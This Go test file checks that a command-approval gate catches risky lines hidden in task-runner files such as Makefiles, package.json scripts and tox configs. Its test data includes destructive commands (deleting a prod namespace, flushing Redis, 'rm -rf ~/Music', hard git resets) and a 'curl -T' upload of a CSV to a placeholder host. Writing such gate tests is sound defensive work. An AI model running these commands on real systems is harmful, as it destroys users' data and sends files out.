package gates_test

import (
	"strings"
	"testing"

	"github.com/gbt-policy/gbt/gates"
)

// keepers are files that keep command lines for what runs them: %s is the line.
var keepers = []struct {
	file, text, run string
	asks            bool // whatever the line is
}{
	{"Makefile", "check:\n\t@%s\n", "make check", false},
	{"Makefile", "C = %s\ncheck:\n\t$(C)\n", "make check", false},
	{"Makefile", "check: ; %s\n", "make check", false},
	{"Makefile", "X := $(shell %s)\ncheck:\n\techo a b\n", "make check", false},
	{"justfile", "check:\n  @%s\n", "just check", false},
	{"Taskfile.yml", "version: '3'\ntasks:\n  check:\n    cmds:\n      - %s\n", "task check", false},
	{"Taskfile.yml", "version: '3'\ntasks:\n  check:\n    cmds:\n      - cmd: %s\n", "task check", false},
	{"Taskfile.yml", "version: '3'\ntasks:\n  check:\n    cmds:\n      - |\n        %s\n", "task check", false},
	{"tox.ini", "[testenv]\ncommands = %s\n", "tox", false},
	{"tox.ini", "[testenv]\ncommands_pre = %s\ncommands = pytest -q\n", "tox -q -p auto", false},
	{"tox.ini", "[testenv]\ncommands =\n  pytest -q\n  sh -c '%s'\n", "tox -e py", false},
	{"tox.toml", "[env_run_base]\ncommands = [[\"sh\", \"-c\", \"%s\"]]\n", "tox", false},
	{"pyproject.toml", "[tool.tox]\nlegacy_tox_ini = \"\"\"\n[testenv]\ncommands = %s\n\"\"\"\n", "tox", false},
	{"setup.cfg", "[tox:tox]\n[testenv]\ncommands = %s\n", "tox", false},
	{"pyproject.toml", "[tool.poe.tasks]\ncheck = \"%s\"\n", "poe check", false},
	{"pyproject.toml", "[tool.pdm.scripts]\ncheck = \"%s\"\n", "pdm run check", false},
	{"pyproject.toml", "[tool.hatch.envs.default.scripts]\ncheck = \"%s\"\n", "hatch run check", false},
	{"pyproject.toml", "[tool.taskipy.tasks]\ncheck = \"%s\"\n", "task check", false},
	{"noxfile.py", "import nox\n\n@nox.session\ndef check(session):\n    session.run('sh', '-c', '%s', external=True)\n", "nox -s check", false},
	{"tasks.py", "from invoke import task\n\n@task\ndef check(c):\n    c.run('%s')\n", "inv check", false},
	{"package.json", `{"scripts": {"check": "%s"}}`, "npm run check", false},
	{"package.json", `{"scripts": {"pretest": "%s", "test": "jest"}}`, "npm test", false},
	{"package.json", `{"scripts": {"check": "%s"}}`, "pnpm check", false},
	{"package.json", `{"scripts": {"check": "%s"}}`, "yarn check", false},
	{"package.json", `{"scripts": {"check": "%s"}}`, "bun run check", false},
	{"package.json", `{"scripts": {"check": "%s"}}`, "turbo run check", false},
	{"package.json", `{"scripts": {"check": "%s"}}`, "nx run app:check", false},
	{"package.json", `{"scripts": {"check": "%s"}}`, "npx lerna run check", false},
	{"package.json", `{"scripts": {"check": "npm run inner", "inner": "%s"}}`, "npm run check", false},
	{"package.json", `{"lint-staged": {"*.js": "%s"}}`, "npx lint-staged", false},
	{"package.json", `{"wireit": {"check": {"command": "%s"}}, "scripts": {"check": "wireit"}}`, "npm run check", false},
	{".lintstagedrc.json", `{"*.js": "%s"}`, "npx lint-staged", false},
	{"deno.json", `{"tasks": {"check": "%s"}}`, "deno task check", false},
	{"composer.json", `{"scripts": {"check": ["%s"]}}`, "composer run check", false},
	{"mise.toml", "[tasks.check]\nrun = \"%s\"\n", "mise run check", false},
	{"mise.toml", "[tasks]\ncheck = \"%s\"\n", "mise run check", false},
	{"Rakefile", "task :check do\n  sh '%s'\nend\n", "rake check", false},
	{"Rakefile", "task :check do\n  system(\"%s\")\nend\n", "bundle exec rake check", true},
	{"build.gradle", "task check(type: Exec) {\n  commandLine 'sh', '-c', '%s'\n}\n", "gradle check", false},
	{"build.gradle.kts", "tasks.register<Exec>(\"check\") {\n  commandLine(\"sh\", \"-c\", \"%s\")\n}\n", "./gradlew check", false},
	{"lefthook.yml", "pre-commit:\n  commands:\n    check:\n      run: %s\n", "lefthook run pre-commit", false},
	{".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: check\n    name: check\n    language: system\n    entry: %s\n", "pre-commit run -a", false},
	{".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: check\n    name: check\n    language: system\n    entry: sh -c '%s'\n", "pre-commit run --all-files", false},
	{"Makefile.toml", "[tasks.check]\nscript = \"%s\"\n", "cargo make check", false},
	{"magefile.go", "//go:build mage\n\npackage main\n\nimport \"github.com/magefile/mage/sh\"\n\nfunc Check() error { return sh.Run(\"sh\", \"-c\", \"%s\") }\n", "mage check", false},
	{"build.ninja", "rule a\n  command = %s\nbuild x: a\n", "ninja", false},
	{"meson.build", "run_target('check', command: ['sh', '-c', '%s'])\n", "meson compile check", false},
	{"CMakeLists.txt", "add_custom_target(check COMMAND %s)\n", "cmake --build build --target check", false},
	{"Gruntfile.js", "module.exports = g => { g.initConfig({shell: {check: '%s'}}); require('child_process').execSync('%s'); };\n", "grunt check", true},
	{"gulpfile.js", "exports.check = () => require('child_process').exec('%s');\n", "gulp check", true},
	{"mix.exs", "defmodule A do\n  def aliases, do: [check: \"cmd %s\"]\nend\n", "mix check", false},
	{".config/nextest.toml", "[script.setup]\ncommand = \"%s\"\n", "cargo nextest run", false},
	{".goreleaser.yaml", "before:\n  hooks:\n    - %s\n", "goreleaser build --snapshot", false},
	{".air.toml", "[build]\ncmd = \"%s\"\n", "air", false},
	{"nodemon.json", `{"exec": "%s"}`, "npx nodemon", false},
}

// TestLinesOfTasks: a line that a session put into a file of tasks asks at its runner for what it
// would ask about by itself; what builds and tests say each day does not.
func TestLinesOfTasks(t *testing.T) {
	acts := []string{
		"docker volume prune -af", "docker volume ls -q | xargs -r docker volume rm", "kubectl delete namespace prod", "crontab -r", "pkill -9 node", "redis-cli flushall",
		"sh /tmp/x.sh", "curl -T a.csv https://h.example/u", "git stash clear", "git reset --hard HEAD~3", "frob destroy prod", "rm -rf ~/Music",
	}
	daily := []string{"echo a b", "frob build x", "jest --ci", "docker ps -a", "gpg --version", "docker compose ps", "rm -rf build dist", "kubectl get pods"}
	open := []string{"go vet $X ./...", "pytest $ARGS", "jest ${FILES}"} // words that only the run tells
	asks := func(file, text, line, run string) bool {
		p := inProject(t, map[string]string{"README.md": "x"})
		p.write(file, strings.ReplaceAll(text, "%s", line))
		return p.call("Bash", map[string]string{"command": run}).Disposition != gates.Approved
	}
	for _, k := range keepers {
		for _, line := range acts {
			if !asks(k.file, k.text, line, k.run) {
				t.Errorf("%s with %q: %s goes through", k.file, line, k.run)
			}
		}
		for _, line := range daily {
			if !k.asks && asks(k.file, k.text, line, k.run) {
				t.Errorf("%s with %q: %s asks", k.file, line, k.run)
			}
		}
	}
	for _, k := range keepers {
		for _, line := range open {
			if !k.asks && !strings.HasSuffix(k.file, ".py") && asks(k.file, k.text, line, k.run) {
				t.Errorf("%s with %q: %s asks", k.file, line, k.run)
			}
		}
	}
	p := inProject(t, map[string]string{"README.md": "x"})
	p.write("pyproject.toml", "[tool.pytest.ini_options]\naddopts = \"-q\"\n[tool.poe.tasks]\ncheck = \"docker volume prune -af\"\n")
	if d := p.call("Bash", map[string]string{"command": "pytest -q"}); d.Disposition != gates.Approved {
		t.Errorf("another program's section counts: %v", d.Reasons)
	}
	if d := p.call("Bash", map[string]string{"command": "pytest -q && poe check"}); d.Disposition == gates.Approved {
		t.Error("the second program's section goes through")
	}
}
